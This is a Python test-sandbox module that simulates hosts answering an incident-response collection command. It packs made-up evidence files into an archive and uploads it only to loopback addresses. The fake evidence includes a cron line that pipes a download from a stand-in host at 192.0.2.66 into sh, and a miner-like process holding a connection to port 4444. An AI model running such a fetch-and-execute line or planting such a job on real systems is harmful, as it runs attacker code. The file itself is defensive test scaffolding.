"""Stand-ins for hosts: they carry out a document of irhub's as far as the outside can see, by dropping an archive.

No host runs in the sandbox, so nothing is looked at: what such a host drops is made up. The way is the real one, though: the
address that the command was given, with the header that it was signed with, and nothing else that the sandbox knows.
"""

import io
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from typing import Any
from urllib.request import Request, urlopen

from moto.ssm.models import ssm_backends

from deployer.sandbox.closed import is_loopback
from deployer.sandbox.repairs.ssm_commands import UNDER_WAY

MADE_UP: Mapping[str, str] = {
    "processes.txt": "PID USER COMMAND\n1 root /sbin/init\n4711 www-data /tmp/.x/kdevtmpfsi -o 192.0.2.66:4444\n",
    "sockets.txt": "tcp ESTAB 10.0.0.10:51524 192.0.2.66:4444 users:((kdevtmpfsi,pid=4711))\n",
    "users.txt": "nobody is logged in\n",
    "tasks.txt": "* * * * * www-data curl -s 192.0.2.66/x.sh | sh\n",
    "about.txt": "made up by a stand-in of the sandbox: no host was looked at\n",
}


def work(account_id: str, region: str) -> tuple[str, ...]:
    """Every command that is under way there has been carried out; the names of the instances that dropped something."""
    return tuple(name for command in ssm_backends[account_id][region]._commands for name in _work_on(command))


def _work_on(command: Any) -> Iterator[str]:
    if command.status != UNDER_WAY:
        return
    url = command.parameters.get("url", [""])[0]
    if url:
        _drop(url, _archive(is_zip="windows" in command.document_name))
        yield from command.instance_ids
    command.status = "Success"


def _drop(url: str, archive: bytes) -> None:
    if not is_loopback(url):
        raise PermissionError(f"The sandbox reaches loopback alone, not {url}.")
    asked = Request(url, archive, {"If-None-Match": "*", "Content-Type": ""}, method="PUT")  # noqa: S310  # loopback alone
    with urlopen(asked, timeout=10):  # noqa: S310  # the same
        pass


def _archive(*, is_zip: bool) -> bytes:
    kept = io.BytesIO()
    if is_zip:
        with zipfile.ZipFile(kept, "w") as packed:
            for name, text in MADE_UP.items():
                packed.writestr(name, text)
        return kept.getvalue()
    with tarfile.open(fileobj=kept, mode="w:gz") as tar:
        for name, text in MADE_UP.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(text)
            tar.addfile(entry, io.BytesIO(text.encode()))
    return kept.getvalue()
